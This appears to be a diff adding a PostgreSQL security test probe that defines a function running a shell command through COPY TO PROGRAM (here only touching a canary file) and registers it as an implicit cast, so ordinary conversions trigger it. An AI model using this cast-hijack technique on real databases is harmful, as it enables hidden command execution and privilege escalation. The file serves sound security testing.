@@ -1,0 +1,8 @@
+-- tries: have code run whenever a value is converted
+-- finding: none by reading
+-- sides: confined on a private server, without rights on one in use
+CREATE FUNCTION public.f() RETURNS integer
+    LANGUAGE plpgsql
+    AS $$BEGIN COPY (SELECT 1) TO PROGRAM 'touch {canary}'; RETURN 1; END$$;
+
+CREATE CAST (integer AS text) WITH FUNCTION public.f() AS IMPLICIT;
